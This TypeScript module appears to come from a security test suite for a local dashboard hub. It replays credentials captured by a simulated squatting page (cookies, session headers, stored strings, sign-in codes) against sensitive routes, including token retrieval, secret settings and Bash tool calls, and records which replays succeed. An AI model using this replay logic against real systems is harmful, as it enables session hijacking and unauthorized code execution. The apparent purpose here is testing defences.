import { signInWithCode } from './dashboard-client.js';

/** What a squatter replays against the real hub, and which of it worked. */
export interface Replayed {
  /** Distinct credentials it caught: header sets, typed or stored strings, sign-in codes. */
  candidates: number;
  tries: number;
  /** "<what> → <route> <status>" for every replay the hub answered with a 2xx, and every lingering page's success. */
  usable: string[];
}

const CREDENTIAL_HEADERS = ['cookie', 'authorization', 'x-pincer-session', 'x-pincer-session-key', 'x-pincer-client'];

/** Every route a stolen credential is worth something on: the token, a setting that runs code, a command, the dashboard. */
const PRIZES: { method: string; path: string; body?: unknown }[] = [
  { method: 'GET', path: '/api/token' },
  { method: 'GET', path: '/api/settings/secret/AUTH_TOKEN' },
  { method: 'POST', path: '/api/settings/key', body: { key: 'BASH_CWD', value: '/tmp' } },
  { method: 'POST', path: '/api/mcp/tools/call', body: { name: 'Bash', arguments: { command: 'echo replayed' } } },
  { method: 'POST', path: '/mcp', body: { jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'Bash', arguments: { command: 'echo replayed' } } } },
  { method: 'GET', path: '/api/overview' },
];

function strings(value: unknown, into: Set<string>): void {
  if (typeof value === 'string') {
    if (value.length >= 8 && value.length <= 2000) into.add(value);
  } else if (value && typeof value === 'object') for (const v of Object.values(value)) strings(v, into);
}

/**
 * Replays what a browser squatter caught (browser-squatter.ts's record) against the hub at `url`:
 * every credential header set it saw (on its port, and through its service worker) as it came; every
 * string the page sent home (storage, typed text, cookies) as a bearer token, a session key and a
 * sign-in token; every sign-in code in an address it saw, redeemed the dashboard's way; and what
 * its page left in a tab reported from the real hub.
 */
export async function replayCaught(url: string, caught: Record<string, unknown>[]): Promise<Replayed> {
  const headerSets = new Map<string, Record<string, string>>();
  const loose = new Set<string>();
  const codes = new Set<string>();
  const usable: string[] = [];
  for (const c of caught) {
    const body = c.body as { kind?: string; data?: unknown; href?: string } | undefined;
    const headers = (c.via === 'port' ? c.headers : body?.kind === 'sw' ? (body.data as { headers?: unknown }).headers : undefined) as Record<string, string> | undefined;
    if (headers) {
      const creds = Object.fromEntries(Object.entries(headers).filter(([k]) => CREDENTIAL_HEADERS.includes(k.toLowerCase())));
      if (Object.keys(creds).some((k) => k !== 'x-pincer-client')) headerSets.set(JSON.stringify(creds), creds);
    }
    if (body?.kind === 'linger') {
      const d = body.data as { path: string; status: number; body: string };
      // Its own forged answers, while it held the port, are not the hub's.
      if (d.status >= 200 && d.status < 300 && !d.body.includes('forged')) usable.push(`the squatter's page left in a tab → GET ${d.path} ${d.status}: ${d.body.slice(0, 80)}`);
    } else if (c.via === 'recorder' && body?.kind !== 'sw') strings(body?.data, loose);
    for (const text of [JSON.stringify(c)]) for (const m of text.matchAll(/signin=([A-Za-z0-9_-]+\.[A-Za-z0-9_-]+)/g)) codes.add(m[1]!);
  }
  let tries = 0;
  const attempt = async (what: string, headers: Record<string, string>) => {
    for (const p of PRIZES) {
      tries++;
      const res = await fetch(`${url}${p.path}`, {
        method: p.method,
        headers: { ...headers, ...(p.body ? { 'Content-Type': 'application/json', Accept: 'application/json, text/event-stream' } : {}) },
        body: p.body ? JSON.stringify(p.body) : undefined,
      }).catch(() => undefined);
      if (res && res.status >= 200 && res.status < 300) usable.push(`${what} → ${p.method} ${p.path} ${res.status}`);
      await res?.body?.cancel().catch(() => undefined);
    }
  };
  for (const [text, headers] of headerSets) await attempt(`headers ${text.slice(0, 120)}`, headers);
  const cookies = [...headerSets.values()].map((h) => h.cookie).filter((c): c is string => !!c);
  for (const s of loose) {
    await attempt(`"${s.slice(0, 40)}" as a bearer token`, { Authorization: `Bearer ${s}` });
    for (const cookie of cookies.length ? cookies : ['']) await attempt(`"${s.slice(0, 40)}" as a session key`, { ...(cookie ? { Cookie: cookie } : {}), 'X-Pincer-Session-Key': s, 'X-Pincer-Session': s });
    tries++;
    const login = await fetch(`${url}/api/login`, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ token: s }) }).catch(() => undefined);
    if (login?.ok) usable.push(`"${s.slice(0, 40)}" signed in as the token → /api/login ${login.status}`);
  }
  for (const code of codes) {
    tries++;
    const session = await signInWithCode(url, code).catch(() => undefined);
    if (session) {
      usable.push(`sign-in code ${code.slice(0, 12)}… redeemed`);
      await attempt(`the session of code ${code.slice(0, 12)}…`, await session.headers());
    }
  }
  return { candidates: headerSets.size + loose.size + codes.size, tries, usable };
}
